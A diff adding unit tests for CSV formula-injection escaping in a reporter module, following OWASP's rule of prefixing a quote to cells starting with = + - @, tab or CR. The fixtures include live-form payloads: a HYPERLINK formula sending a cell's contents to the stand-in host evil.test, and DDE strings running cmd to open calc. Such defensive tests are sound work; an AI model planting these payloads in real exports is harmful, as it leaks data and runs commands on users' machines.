@@ -249,6 +249,32 @@ describe('csv reporter', () => {
     expect(csvField("it's; fine")).toBe("it's; fine");
   });
 
+  // OWASP's CSV injection rule: a spreadsheet runs a cell that starts with = + - @ (or a tab or
+  // CR before one), so such text gets a leading ' (shown, not run) and is quoted.
+  it.each([
+    ['=', '=HYPERLINK("http://evil.test/?"&A1,"click")', '"\'=HYPERLINK(""http://evil.test/?""&A1,""click"")"'],
+    ['+', "+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
+    ['-', '-2+3+cmd|\' /C calc\'!A0', `"'-2+3+cmd|' /C calc'!A0"`],
+    ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0', `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
+    ['tab', '\t=1+1', `"'\t=1+1"`],
+    ['CR', '\r=1+1', `"'\r=1+1"`],
+  ])('neutralises a text field that starts with %s', (_char, text, field) => {
+    expect(csvField(text)).toBe(field);
+  });
+
+  it('leaves numbers alone, and text with a formula character further in', () => {
+    expect(csvField(-3)).toBe('-3');
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField(' =1')).toBe(' =1');
+  });
+
+  it('neutralises every text column a list or a server fills: url, message, final URL, source', () => {
+    const row = csvRow(
+      result({ url: '=1+1', ok: false, error: { code: 'INVALID_URL', message: '@x' }, finalUrl: '+y', source: '-z.txt', line: 2, verdict: 'broken' }),
+    );
+    expect(row).toBe(`"'=1+1",false,200,INVALID_URL,"'@x",10,1,0,"'+y",HEAD,"'-z.txt",2,broken,,,,\r\n`);
+  });
+
   it('has one field per column in every row', () => {
     const row = csvRow(result({ url: 'https://x.test/', line: 9, source: 'a,b.txt' }));
     expect(row).toBe('https://x.test/,true,200,,,10,1,0,https://x.test/,HEAD,"a,b.txt",9,healthy,,,,\r\n');
